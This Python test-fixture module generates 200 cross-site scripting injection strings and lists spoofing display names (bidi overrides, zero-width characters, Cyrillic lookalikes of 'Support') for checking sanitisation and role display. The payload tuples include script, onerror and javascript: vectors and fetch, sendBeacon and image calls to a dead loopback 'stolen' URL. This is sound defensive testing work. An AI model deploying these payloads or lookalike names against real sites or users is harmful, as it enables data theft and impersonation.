"""Two hundred texts that would be code somewhere, and names that would be something else (T05; threats 35, 67). No assertions."""

from __future__ import annotations

import itertools
import random
from typing import Final

HOST: Final = "http://127.0.0.1:9/stolen"
"""Where everything would go. Nobody listens there, and no page of ours asks for it."""

_DOES: Final = (
    f"fetch('{HOST}')",
    "alert(1)",
    "top.pwned=1",
    f"location='{HOST}'",
    f"new Image().src='{HOST}'",
    f"navigator.sendBeacon('{HOST}')",
    "document.body.innerHTML=1",
)
_SHELLS: Final = (
    "<script>{does}</script>",
    "<ScRiPt src={host}></sCrIpT>",
    '<img src=x onerror="{does}">',
    "<img src={host}>",
    '"><svg onload="{does}">',
    "'><svg/onload={does}>",
    "<svg><script>{does}</script></svg>",
    "<svg><animate onbegin={does} attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={does}>",
    '<iframe srcdoc="<script>{does}</script>"></iframe>',
    '<iframe src="javascript:{does}"></iframe>',
    '<a href="javascript:{does}">x</a>',
    "javascript:{does}",
    "data:text/html,<script>{does}</script>",
    "[x](javascript:{does})",
    "![x]({host})",
    "{host}",
    "<{host}>",
    "<body onload={does}>",
    "<details open ontoggle={does}>",
    "<input autofocus onfocus={does}>",
    "<video poster={host}><source onerror={does}></video>",
    "<object data={host}></object>",
    "<embed src={host}>",
    "<link rel=stylesheet href={host}>",
    "<style>@import '{host}';</style>",
    '<div style="background:url({host})">',
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<base href={host}>",
    "<form action={host}><button autofocus>",
    "</textarea><img src=x onerror={does}>",
    "</title><script>{does}</script>",
    "--><img src=x onerror={does}>",
    "]]><img src=x onerror={does}>",
    "{{{{constructor.constructor('{does}')()}}}}",
    "${{{does}}}",
    "';{does};//",
    "\\u003cimg src=x onerror={does}\\u003e",
    "&lt;img src=x onerror={does}&gt;",
    "%3Cimg%20src=x%20onerror={does}%3E",
    "<noscript><p title='</noscript><img src=x onerror={does}>'>",
    "<template><img src=x onerror={does}></template>",
    "<x onclick={does} tabindex=1 autofocus onfocus={does}>",
)


def injections(*, seed: int = 67, count: int = 200) -> list[str]:
    """Different ones, one line each."""
    every = [shell.format(does=does, host=HOST) for shell, does in itertools.product(_SHELLS, _DOES)]
    return random.Random(seed).sample(sorted(set(every)), k=count)  # noqa: S311 - a test that failed must fail again


ODD_NAMES: Final = (
    "\u202eanA\u202c",
    "A\u200bna",
    "Ana\u200d",
    "\u2066Ana\u2069",
    "Ana\ufeff",
    "A" * 10_000,
    "Ana\nSupport",
    "\u00ad",
    "",
    " Ana",
)
"""Names that would turn, hide, stretch or forge what stands beside them (threat 35): no credential with one is read."""

LOOKALIKES: Final = ("Supp\u043ert", "\u0405upport", "Support ✔", "Verified Support", "Customer")
"""Names that are names: whoever bears one is still shown with the role of the credential."""
